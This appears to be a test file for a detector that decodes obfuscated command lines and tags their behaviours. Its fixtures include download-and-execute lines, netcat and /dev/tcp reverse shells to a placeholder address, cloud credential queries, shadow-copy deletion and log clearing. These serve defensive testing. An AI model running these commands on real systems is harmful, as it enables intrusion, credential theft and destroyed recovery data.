import { expect, test } from 'vitest';
import { BEHAVIOURS } from './behaviours.ts';
import { CHARS_MAX, decode } from './decode.ts';
import { explain, holdsBehaviour } from './explain.ts';

const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
const base64 = (text: string) => Buffer.from(text).toString('base64');
const behavioursOf = (text: string) => explain(text).seen.map(one => one.behaviour);

const DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";

test.each([
  ['PowerShell -enc', `powershell -nop -w hidden -enc ${utf16(DOWNLOAD)}`, DOWNLOAD, 'base64_utf16'],
  [
    'base64',
    `echo ${base64('curl http://203.0.113.9/x | sh')} | base64 -d | sh`,
    'curl http://203.0.113.9/x | sh',
    'base64',
  ],
  ['base64 for addresses', `GET /?q=${base64('cat /etc/passwd?').replaceAll('=', '')}`, 'cat /etc/passwd?', 'base64'],
  [
    'hexadecimal',
    `xxd -r -p <<< ${Buffer.from('nc -e /bin/sh 203.0.113.9 4444').toString('hex')}`,
    'nc -e /bin/sh 203.0.113.9 4444',
    'hex',
  ],
  ['\\x escapes', '$s = "\\x77\\x68\\x6f\\x61\\x6d\\x69"', 'whoami', 'escapes'],
  ['\\u escapes', 'eval("\\u0077\\u0068\\u006f\\u0061\\u006d\\u0069")', 'whoami', 'escapes'],
  ['percent signs', '/cgi?cmd=%63%61%74%20/etc/passwd', '/cgi?cmd=cat /etc/passwd', 'url'],
  ['character codes', '[char]119+[char]104+[char]111+[char]97+[char]109+[char]105', 'whoami', 'char_codes'],
  ['a list of codes', 'String.fromCharCode(119, 104, 111, 97, 109, 105)', 'whoami', 'char_codes'],
  ['joined literals', "& ('who'+'ami')", 'whoami', 'concatenation'],
  ['carets', 'p^o^w^e^r^s^h^e^l^l -c whoami', 'powershell', 'obfuscation'],
])('what is written as %s is decoded, with where it stood', (_, text, decoded, encoding) => {
  const part = decode(text).find(one => one.text === decoded);
  expect(part).toMatchObject({ parent: -1, encoding });
  expect(part && text.slice(part.start, part.end)).not.toBe(decoded);
});

test('what is encoded in what is encoded is decoded, and each part says what it stands in', () => {
  const twice = base64(base64(DOWNLOAD));
  const [outer, inner] = decode(twice);
  expect([outer?.text, inner?.text, inner?.parent]).toEqual([base64(DOWNLOAD), DOWNLOAD, 0]);
});

test.each([
  'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
  '/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000',
  'arn:aws:iam::123456789012:role/ApplicationRuntimeRole',
  'd41d8cd98f00b204e9800998ecf8427e',
  '3f2504e0-4f89-41d3-9a0c-0305e82c3301',
  'git commit -m "Fix the build"',
])('what is not encoded stays what it is: %s', text => {
  expect(decode(text)).toEqual([]);
});

test.each([
  [
    `powershell.exe -nop -w hidden -enc ${utf16(DOWNLOAD)}`,
    ['hidden_window', 'encoded_command', 'run_text_as_code', 'download'],
  ],
  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', ['remote_shell']],
  ['net user helper P4ss /add & net localgroup administrators helper /add', ['make_account', 'grant_rights']],
  ['vssadmin delete shadows /all /quiet', ['stop_recovery']],
  ['wevtutil cl Security', ['clear_traces']],
  ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/', ['download', 'cloud_metadata']],
  ['aws iam create-access-key --user-name backup', ['make_key']],
  ['schtasks /create /tn up /tr c:\\u.exe /sc onlogon', ['scheduled_task']],
])('a command says what it does: %s', (text, behaviours) => {
  expect(new Set(behavioursOf(text))).toEqual(new Set(behaviours));
});

test('a behaviour is marked where its own signs match', () => {
  for (const text of [`powershell -w hidden -enc ${utf16(DOWNLOAD)}`, 'curl http://203.0.113.9/x | sh; history -c']) {
    const { decoded, seen } = explain(text);
    expect(seen.length).toBeGreaterThan(1);
    for (const one of seen) {
      const where = one.part === -1 ? text : (decoded[one.part]?.text ?? '');
      expect(holdsBehaviour(where, one.behaviour, one.start, one.end)).toBe(true);
    }
  }
});

test('a span that does not hold the behaviour, or that is not there, is refused', () => {
  const text = 'whoami && ls';
  expect(holdsBehaviour(text, 'discover_account', 0, 6)).toBe(true);
  expect(holdsBehaviour(text, 'discover_account', 7, 12)).toBe(false);
  expect(holdsBehaviour(text, 'discover_account', 0, 99)).toBe(false);
  expect(holdsBehaviour(text, 'discover_account', 6, 0)).toBe(false);
  expect(holdsBehaviour(text, 'harmless', 0, 6)).toBe(false);
});

test('each behaviour has an id, a clause and a technique of its own form', () => {
  expect(new Set(BEHAVIOURS.map(({ id }) => id)).size).toBe(BEHAVIOURS.length);
  for (const { id, text, technique } of BEHAVIOURS) {
    expect(id).toMatch(/^[a-z_]+$/);
    expect(text).toMatch(/^[a-z]+s /);
    expect(technique).toMatch(/^T\d{4}(\.\d{3})?$/);
  }
});

test('any text is explained, however long and however hostile to patterns', () => {
  const hostile = [
    '%',
    'A',
    "'",
    "'+",
    '"&"',
    '^',
    ' ,',
    '1,',
    '[char]',
    '0x',
    '\\x4',
    '%41%4',
    'ab ',
    'powershell -',
    'curl ',
  ];
  for (const piece of hostile) {
    const text = piece.repeat(Math.ceil((2 * CHARS_MAX) / piece.length));
    expect(explain(text).isCut).toBe(true);
  }
});
